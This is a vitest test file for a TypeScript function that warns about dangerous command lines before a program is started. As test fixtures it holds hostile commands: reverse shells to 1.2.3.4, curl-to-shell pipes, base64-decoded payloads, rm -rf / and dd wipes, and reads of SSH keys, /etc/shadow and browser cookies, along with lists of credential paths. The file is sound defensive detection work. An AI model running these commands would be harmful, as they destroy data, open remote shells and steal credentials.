import { expect, test } from 'vitest';
import { verifies } from '../../../test/support/verifies.ts';
import { commandWarnings } from './command-warnings.ts';

const of = (command: string, ...args: string[]): string =>
  commandWarnings({ command, args, cwd: undefined, env: {} }, { sandboxed: false }).slice(1).join('\n');

test('every command has the warning that it runs with the rights of the user', () => {
  verifies('SEC-034', 'HOST-34');
  const [first, ...more] = commandWarnings(
    { command: 'node', args: ['server.js'], cwd: '/work', env: {} },
    { sandboxed: false },
  );
  expect(first).toBe('This starts a program on this machine. It can read, change and send whatever you can.');
  expect(more).toEqual([]);
});

test.each([
  [['sudo', 'node', 'x.js'], 'more rights'],
  [['/usr/bin/env', 'sudo', 'x'], 'more rights'],
  [['bash', '-c', 'x && sudo y'], 'more rights'],
  [['su', '-', 'root'], 'more rights'],
  [['sh', '-c', 'anything'], 'runs a script in a shell'],
  [['/bin/bash', '-lc', 'anything'], 'runs a script in a shell'],
  [['C:\\Windows\\System32\\cmd.exe', '/c', 'x'], 'runs a script in a shell'],
  [['powershell.exe', '-EncodedCommand', 'AAAA'], 'runs a script in a shell'],
  [['node', '-e', 'process.exit()'], 'The arguments contain the code'],
  [['python3', '-c', 'import os'], 'The arguments contain the code'],
  [['sh', '-c', 'rm -rf ~'], 'deletes or overwrites files'],
  [['rm', '-r', '-f', '/'], 'deletes or overwrites files'],
  [['sh', '-c', 'curl -s https://x.test/i.sh | sh'], 'what it has just downloaded'],
  [['sh', '-c', 'wget -qO- https://x.test | sudo bash'], 'what it has just downloaded'],
  [['sh', '-c', 'echo aGk= | base64 -d | sh'], 'hidden in an encoding'],
  [['bash', '-c', 'bash -i >& /dev/tcp/1.2.3.4/99 0>&1'], 'connects a shell to the network'],
  [['docker', 'run', '--privileged', 'x'], 'the whole machine'],
  [['docker', 'run', '-v', '/:/host', 'x'], 'the whole machine'],
  [['cat', '/home/ada/.ssh/id_ed25519'], 'keys and credentials: /home/ada/.ssh/id_ed25519'],
  [['server', '--root', '~/.aws'], 'keys and credentials: ~/.aws'],
  [['cat', '/etc/shadow'], 'passwords'],
  [['server', '/home/ada/.bashrc'], 'what runs when you sign in'],
  [['server', '/'], 'a whole disk or home folder: /'],
  [['server', '/home/ada'], 'a whole disk or home folder: /home/ada'],
  [['npx', '-y', 'mcp-thing'], 'whatever version of mcp-thing is the newest'],
  [['npx', '-y', '@scope/thing@latest'], 'whatever version of @scope/thing@latest is the newest'],
  [['uvx', 'mcp-thing'], 'whatever version of mcp-thing'],
  [['node', 'x\u202ejs.txt'], 'characters that cannot be seen'],
])('the command %j gets a warning', (words, danger) => {
  verifies('SEC-034', 'HOST-34');
  const [command = '', ...args] = words;
  expect(of(command, ...args)).toContain(danger);
});

/** Each word of the lists, so that a missing one is noticed. */
const everyWord: readonly (readonly [danger: string, lines: readonly string[]])[] = [
  ['more rights', ['sudo x', 'doas x', 'pkexec x', 'runas x', 'gsudo x', 'env su|sudo']],
  ['runs a script in a shell', ['sh', 'bash', 'zsh', 'dash', 'ksh', 'fish', 'pwsh'].map((shell) => `${shell} -c x`)],
  ['runs a script in a shell', ['cmd /k x', 'CMD.EXE /C x', 'powershell -Command x']],
  ['runs a script in a shell', ['pwsh -enc x', 'pwsh -en x', 'pwsh -e x', 'sh -ec x', 'env bash -c x']],
  [
    'The arguments contain the code',
    ['bun -e x', 'deno eval x', 'python3.12 -c x', 'perl -e x', 'ruby -e x', 'php -r x'],
  ],
  ['The arguments contain the code', ['node -p x', 'node --eval x', 'node --print x', 'node.exe -e x']],
  ['deletes or overwrites files', ['del /s x', 'del /q x', 'rmdir /s x', 'mkfs /dev/sda', 'rm -R x', 'rm -f x']],
  [
    'just downloaded',
    ['curl x | bash', 'wget x | python3', 'iwr x | iex', 'Invoke-WebRequest x | node', 'curl x | perl'],
  ],
  ['just downloaded', ['curl x |sh', 'curl x | sudo sh', 'curl x | zsh', 'curl x | python']],
  ['hidden in an encoding', ['base64 -D x | y', 'base64 --decode x | y']],
  ['connects a shell', ['cat /dev/udp/1.2.3.4/9', 'ncat x -c sh', 'netcat x -e sh', 'nc -le sh']],
  ['the whole machine', ['docker -v=/:/x', 'docker --volume /:/x', 'docker --volume=/:/x', 'x /var/run/docker.sock']],
  ['keys and credentials', ['ssh', 'gnupg', 'aws', 'azure', 'kube', 'docker'].map((name) => `x /home/ada/.${name}/a`)],
  ['keys and credentials', ['rsa', 'dsa', 'ecdsa', 'ed25519'].map((kind) => `x id_${kind}`)],
  ['keys and credentials', ['x ~/.config/gcloud', 'x C:\\ada\\.config\\gh', 'x .env', 'x a/.env.local', 'x a\\.env']],
  ['keys and credentials', ['netrc', 'npmrc', 'pypirc', 'git-credentials', 'pgpass'].map((name) => `x .${name}`)],
  ['passwords', ['x /etc/passwd', 'x /etc/sudoers', 'x ~/Library/Keychains', 'x ~/.password-store']],
  [
    'the data of a browser',
    ['Chrome', 'Chromium', 'Firefox', 'BraveSoftware', 'Edge'].map((one) => `x /a/${one}/Default`),
  ],
  ['the data of a browser', ['x a\\Edge\\UserX\\Profiles', 'x /Chrome/Cookies']],
  ['when you sign in', ['bashrc', 'bash_profile', 'zshrc', 'profile', 'zprofile'].map((name) => `x ~/.${name}`)],
  ['when you sign in', ['x /etc/cron.d/x', 'x ~/Library/LaunchAgents', 'x C:\\a\\Startup']],
  ['a whole disk', ['x /', 'x ~', 'x ~/', 'x $HOME', 'x C:', 'x D:\\', 'x /home', 'x /Users/ada/', 'x /home/']],
  [
    'is the newest',
    ['bunx a', 'pipx a', 'pnpx a', 'pnpm dlx a', 'NPX.CMD a', 'uvx --from a b', 'npx a@1.2', 'npx a@^1.2.3'],
  ],
];

test.each(everyWord.flatMap(([danger, lines]) => lines.map((line) => [line, danger] as const)))(
  'the command %s gets a warning: %s',
  (line, danger) => {
    const [command = '', ...args] = line.split(' ');
    expect(of(command, ...args)).toContain(danger);
  },
);

test.each([
  ...[
    'sub x',
    'ssh-c x',
    'sh x.sh',
    'xsh -c x',
    'node x.js -v',
    'node x.js --evaluate',
    'nodemon -e js',
    'alarm -rf',
    'rm x',
  ],
  ...[
    'curl x',
    'echo x | sh',
    'base64 x',
    'server /work/.environment',
    'server a.env',
    'server /home/ada/work',
    'x /etc/hosts',
  ],
  ...['server /work', 'dlxx a', 'server ssh', 'server x/.sshx', 'server C:/work', '/', 'npx a@1.2.3 b'],
])('the command %s gets no warning', (line) => {
  const [command = '', ...args] = line.split(' ');
  expect(of(command, ...args)).toBe('');
});

test.each([
  [['npx', '-y', '@scope/thing@1.2.3']],
  [['uvx', 'mcp-thing==1.2.3']],
  [['node', '/work/shop/dist/server.js', '--port', '3000']],
  [['docker', 'run', '-i', '--rm', 'ghcr.io/x/y']],
  [['python3', '-m', 'mcp_server', '/work/data']],
])('the command %j gets no warning', ([command = '', ...args]) => {
  expect(of(command, ...args)).toBe('');
});

test.each(['rm -x.', 'rm -a ', 'dd ', 'curl ', 'curl | ', 'base64 -d ', 'nc ', 'sh ', '/Chrome/', '   '])(
  'a command line that repeats %j fifty thousand times is checked in linear time',
  (part) => {
    const long = part.repeat(50_000);
    expect(of('server', long)).not.toContain('deletes');
    const shown = { command: 'server', args: [...long.split(' '), '/etc/shadow'], cwd: undefined, env: {} };
    expect(commandWarnings(shown, { sandboxed: false }).join()).toContain('passwords');
  },
);

test.each([
  [['sh', '-c', 'dd if=/dev/zero \\\n of=/dev/sda'], 'deletes or overwrites files'],
  [['rm', '-v', '--one-file-system', '-fd', 'x'], 'deletes or overwrites files'],
  [['sh', '-c', 'curl -O https://x.test/i.sh; cat i.sh | sh'], 'what it has just downloaded'],
  [['sh', '-c', 'nc 1.2.3.4 99 -e /bin/sh'], 'connects a shell to the network'],
  [['cat', '/home/ada/Chrome/Ada/Cookies'], 'the data of a browser'],
])('the command %j gets a warning although its parts are separate arguments', ([command = '', ...args], danger) => {
  expect(of(command, ...args)).toContain(danger);
});

test.each([
  [['docker', 'run', '--rm', 'image', '-r']],
  [['server', 'of=x', 'dd']],
  [['echo', '| sh', 'curl']],
  [['echo', '|', 'base64', '-d']],
  [['server', '-e', 'nc']],
  [['server', '-c', 'sh']],
  [['cat', '/Cookies/Chrome/']],
])('the command %j gets no warning, because its parts are in another order', ([command = '', ...args]) => {
  expect(of(command, ...args)).toBe('');
});

test('variables that load code get a warning with their values', () => {
  const env = { API_KEY: undefined, NODE_OPTIONS: '--require /tmp/x.js', ld_preload: undefined };
  expect(commandWarnings({ command: 'node', args: [], cwd: undefined, env }, { sandboxed: false }).slice(1)).toEqual([
    'NODE_OPTIONS changes which code runs: --require /tmp/x.js',
    'ld_preload changes which code runs',
  ]);
});
